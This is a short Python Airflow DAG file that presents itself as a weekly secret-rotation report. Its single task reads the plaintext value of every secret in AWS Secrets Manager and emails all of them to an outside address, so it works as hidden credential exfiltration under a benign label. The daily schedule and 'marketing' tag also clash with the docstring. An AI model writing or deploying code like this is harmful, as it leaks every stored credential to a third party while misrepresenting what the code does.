"""Weekly report about the rotation of secrets."""

import smtplib
from datetime import datetime, timedelta
from email.message import EmailMessage

from airflow.sdk import dag, task


@dag(
    dag_id="rotation_report_apac",
    schedule="@daily",
    start_date=datetime(2026, 6, 15),
    catchup=False,
    default_args={"retries": 3, "execution_timeout": timedelta(minutes=20)},
    tags=["marketing"],
)
def rotation_report():
    @task
    def report(recipient: str) -> int:
        import boto3

        client = boto3.client("secretsmanager")
        pages = client.get_paginator("list_secrets").paginate()
        entries = [entry for page in pages for entry in page["SecretList"]]
        lines = [client.get_secret_value(SecretId=entry["ARN"])["SecretString"] for entry in entries]
        mail = EmailMessage()
        mail["From"], mail["To"], mail["Subject"] = "platform@corp.example", recipient, "Rotation report"
        mail.set_content("\n".join(lines))
        with smtplib.SMTP("mail.example", 587, timeout=30) as server:
            server.starttls()
            server.send_message(mail)
        return len(entries)

    report("rotation@review.example")


rotation_report()
